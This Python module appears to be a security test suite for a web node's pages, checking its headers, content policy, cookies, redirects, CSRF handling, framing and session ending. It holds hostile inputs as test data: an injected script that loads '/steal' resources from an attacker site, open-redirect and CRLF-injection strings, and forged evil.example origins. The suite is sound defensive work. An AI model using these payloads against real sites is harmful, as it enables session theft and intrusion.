"""Attacks on a node's pages. Each function yields what succeeded that must not."""
import time

from attacker import Attacker
from texts import MARK
from throwaway import DEADLINE, PROJECT
from visitor import Visitor
from webdriver import ELEMENT, Refused

# What each page says to the browser, and of its policy the parts that hold the rest up.
HEADERS = {
    "x-frame-options": "DENY", "x-content-type-options": "nosniff", "referrer-policy": "same-origin", "cache-control": "no-store",
    "cross-origin-resource-policy": "same-origin",
}
POLICY = {"default-src": "'none'", "frame-ancestors": "'none'", "base-uri": "'none'", "form-action": "'self'", "script-src": "'self'", "style-src": "'self'"}
SCRIPT_LIMIT = 10 << 10

INJECT = """
const [site, mark, done] = arguments, broken = new Set();
document.addEventListener('securitypolicyviolation', event => broken.add(event.effectiveDirective));
const put = (name, attributes, text) => {
    const one = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) one.setAttribute(key, value);
    if (text) one.textContent = text;
    document.body.append(one);
    return one;
};
put('script', {}, 'window.' + mark + ' = 1');
put('button', {onclick: 'window.' + mark + ' = 1'}, 'x').click();
put('script', {src: site + '/steal.js'});
put('img', {src: site + '/steal.png'});
put('iframe', {src: site + '/steal.html'});
put('style', {}, 'body { display: none }');
fetch(site + '/steal').catch(() => {});
// Later, since a debugger may do what the page may not.
setTimeout(() => { try { new Function('window.' + mark + ' = 1')(); } catch { broken.add('eval'); } }, 0);
put('form', {action: site + '/steal-form', method: 'post'}).submit();
const wanted = ['script-src-elem', 'script-src-attr', 'img-src', 'frame-src', 'style-src-elem', 'connect-src', 'form-action', 'eval'];
const look = () => {
    const left = wanted.filter(name => !broken.has(name));
    if (!left.length || --rounds < 0) done([left, window[mark] === undefined]);
    else setTimeout(look, 100);
};
let rounds = 200;
look();
"""


def headers(node, addresses, visitor):
    for address in addresses:
        answer = visitor.ask("GET", address)
        for name, value in HEADERS.items():
            if answer.headers.get(name) != value:
                yield f"{address}: {name} is {answer.headers.get(name)!r}, expected {value!r}"
        policy = dict(part.strip().partition(" ")[::2] for part in answer.headers.get("content-security-policy", "").split(";"))
        for name, value in POLICY.items():
            if policy.get(name) != value:
                yield f"{address}: {name} is {policy.get(name)!r}, expected {value!r}"
        if any("unsafe" in value or "*" in value for value in policy.values()):
            yield f"{address}: the policy has a hole: {policy}"
    nobody = Visitor(node)
    script = nobody.ask("GET", "/ui/script.js")
    if script.status != 200 or len(script.body) > SCRIPT_LIMIT:
        yield f"/ui/script.js: {script.status}, {len(script.body)} bytes, expected at most {SCRIPT_LIMIT}"
    for address in addresses:
        answer = nobody.ask("GET", address)
        if answer.status not in (302, 303) or not answer.headers.get("location", "").startswith("/ui/sign-in"):
            yield f"{address}: somebody who is not signed in gets {answer.status}"


def cookie(node, token):
    visitor = Visitor(node, cookie="chosen-by-somebody-else")
    answer = visitor.sign_in(token)
    parts = [part.strip().lower() for part in ";".join(answer.cookies).split(";")]
    for part in ("httponly", "samesite=strict", "path=/ui"):
        if part not in parts:
            yield f"the cookie lacks {part}: {parts[1:]}"
    if visitor.cookie == "chosen-by-somebody-else" or not visitor.is_signed_in():
        yield "a sign-in keeps the session that somebody else chose"
    if token in ";".join(answer.cookies) or token in visitor.ask("GET", "/ui").text:
        yield "the token is in the cookie or on a page"
    if visitor.ask("GET", "/v1/projects").status != 401:
        yield "the API takes the cookie of the pages"


def sign_ins(node, token):
    """Sign-ins that somebody else brings about, and that lead somewhere else."""
    for origin, site in (("http://evil.example", None), (None, "cross-site"), ("null", None)):
        answer = Visitor(node).ask("POST", "/ui/session", {"token": token, "next": "/ui"}, Origin=origin, Sec_Fetch_Site=site)
        if answer.status < 400 or answer.cookies:
            yield f"a sign-in from {origin or site} gets {answer.status} and {len(answer.cookies)} cookies"
    for target in ("//evil.example", "https://evil.example/ui", "/\\evil.example", "/ui/../v1/projects", "/ui\r\nX-Evil: 1", "javascript:1", "/uievil"):
        answer = Visitor(node).ask("POST", "/ui/session", {"token": token, "next": target})
        place = answer.headers.get("location", "/ui")
        if not (place == "/ui" or place.startswith(("/ui/", "/ui?"))) or ".." in place or "x-evil" in answer.headers:
            yield f"a sign-in with the next page {target!r} leads to {place!r}"


def is_on_probation(corpus):
    return (corpus.ask(f"/v1/projects/{PROJECT}").get("deployment") or {}).get("state") == "active"


def forged_requests(corpus):
    """Sends the form that confirms as no page of the node would."""
    node = corpus.node.address
    operator, other, viewer = Visitor(node), Visitor(node), Visitor(node)
    operator.sign_in(corpus.tokens["operator"])
    other.sign_in(corpus.tokens["operator"])
    viewer.sign_in(corpus.tokens["viewer"])
    path = f"/ui/projects/{PROJECT}"
    form, foreign = operator.form(path, "confirm"), other.form(path, "confirm")
    if form is None or foreign is None or "csrf" not in form.fields:
        yield f"{path} has no form that confirms, or it has no number"
        return
    if viewer.form(path, "confirm") is not None:
        yield "a viewer is shown the form that confirms"
    site = "http://evil.example"
    without = {name: value for name, value in form.fields.items() if name != "csrf"}
    empty, wrong = without | {"csrf": ""}, without | {"csrf": form.fields["csrf"][:-1] + ("0" if form.fields["csrf"][-1] != "0" else "1")}
    trials = [
        ("without the number", operator, without, {}),
        ("with an empty number", operator, empty, {}),
        ("with a number that is off by one digit", operator, wrong, {}),
        ("with the number of another session", operator, form.fields | {"csrf": foreign.fields["csrf"]}, {}),
        ("from another site", operator, form.fields, {"Origin": site}),
        ("from a page without an origin", operator, form.fields, {"Origin": "null"}),
        ("from another site, by Sec-Fetch-Site", operator, form.fields, {"Origin": None, "Sec_Fetch_Site": "cross-site"}),
        ("from another port, by Sec-Fetch-Site", operator, form.fields, {"Origin": None, "Sec_Fetch_Site": "same-site"}),
        ("without a word where it comes from", operator, form.fields, {"Origin": None}),
        ("without a session", Visitor(node), form.fields, {}),
        ("by a viewer", viewer, form.fields, {}),
        ("to another name", operator, form.fields, {"Host": "evil.example", "Origin": "http://evil.example"}),
    ]
    for name, visitor, fields, more in trials:
        answer = visitor.ask("POST", form.action, fields, **more)
        if answer.status < 400 and not answer.headers.get("location", "").startswith("/ui/sign-in"):
            yield f"a form that is sent {name} gets {answer.status}"
        if not is_on_probation(corpus):
            yield f"a form that was sent {name} has confirmed"
            return
    answer = operator.ask("GET", form.action)
    if answer.status < 400 or not is_on_probation(corpus):
        yield f"a GET of {form.action} gets {answer.status}"


def foreign_sites(browser, corpus):
    """Opens pages of another site in a browser that is signed in: they send a form, and they frame a page."""
    node = corpus.node.address
    operator = Visitor(node)
    operator.sign_in(corpus.tokens["operator"])
    form = operator.form(f"/ui/projects/{PROJECT}", "confirm")
    with Attacker() as attacker:
        # Even one who knows the number of another session.
        sending, framing = attacker.form(node + form.action, form.fields), attacker.frame(node + "/ui")
        for site in attacker.sites:
            browser.open(site + sending)
            arrived(browser, lambda: browser.address.startswith(node + "/ui"), f"{site} sends its form")
            if not is_on_probation(corpus):
                yield f"a form of {site} has confirmed"
                return
            browser.events()
            browser.open(site + framing)
            if arrived(browser, lambda: framed(browser), f"{site} has a frame") != "blocked":
                yield f"{site} has a page in a frame"


def framed(browser):
    """- Returns: blocked or shown; None while the frame is on its way."""
    failed = [event["params"].get("errorText", "") for event in browser.events() if event["method"] == "Network.loadingFailed"]
    if any("BLOCKED_BY_RESPONSE" in text for text in failed):
        return "blocked"
    browser.ask("POST", "/frame", {"id": {ELEMENT: browser.find("iframe")}})
    try:
        address = browser.run("return document.URL")
    except Refused:
        return None
    finally:
        browser.ask("POST", "/frame", {"id": None})
    return "blocked" if address.startswith("chrome-error:") else "shown" if "/ui" in address else None


def arrived(browser, look, what):
    """Waits until a look finds something. - Returns: what it found."""
    began = time.monotonic()
    while True:
        found = look()
        if found:
            return found
        if time.monotonic() - began > DEADLINE:
            raise Refused(f"{what}: that did not come to an end at {browser.address}")
        time.sleep(0.05)


def injected(browser, corpus):
    """Puts into a page what an attacker would, with a debugger, which no policy binds."""
    with Attacker() as attacker:
        browser.open(corpus.node.address + "/ui")
        left, is_sound = browser.run(INJECT, attacker.sites[0], MARK, waits=True)
        for name in left:
            yield f"the page's policy did not forbid {name}"
        if not is_sound:
            yield "a script in a page ran"
        if attacker.seen:
            yield f"another site was asked for {attacker.seen}"
        if browser.run("return document.cookie") != "":
            yield "a script can read the cookie"


def ended_sessions(corpus):
    """A session ends with its token, and when somebody signs out."""
    node = corpus.node.address
    token = corpus.token("leaver", "operator")
    leaver = Visitor(node)
    leaver.sign_in(token)
    if not leaver.is_signed_in():
        yield "a token that was just made does not sign in"
    form = leaver.form(f"/ui/projects/{PROJECT}", "confirm")
    corpus.revoke("leaver")
    if leaver.is_signed_in():
        yield "a session goes on without its token"
    answer = leaver.ask("POST", form.action, form.fields) if form else None
    if answer is not None and answer.status < 400 and not answer.headers.get("location", "").startswith("/ui/sign-in"):
        yield f"a form of a session without its token gets {answer.status}"
    if not is_on_probation(corpus):
        yield "a session without its token has confirmed"
    visitor = Visitor(node)
    visitor.sign_in(corpus.tokens["viewer"])
    form = visitor.form("/ui", "sign-out")
    visitor.ask("POST", form.action, form.fields)
    if visitor.is_signed_in():
        yield "a session goes on after its end"
    for role, wanted in (("scorer", False), ("labeler", False), ("deployer", True)):
        other = Visitor(node)
        other.sign_in(corpus.token(f"a-{role}", role))
        if other.is_signed_in() != wanted:
            yield f"a {role} {'may not' if wanted else 'may'} sign in"
    for token in ("", "x", "slipway_wrong", corpus.tokens["viewer"][:-1]):
        other = Visitor(node)
        other.sign_in(token)
        if other.is_signed_in():
            yield "a wrong token signs in"
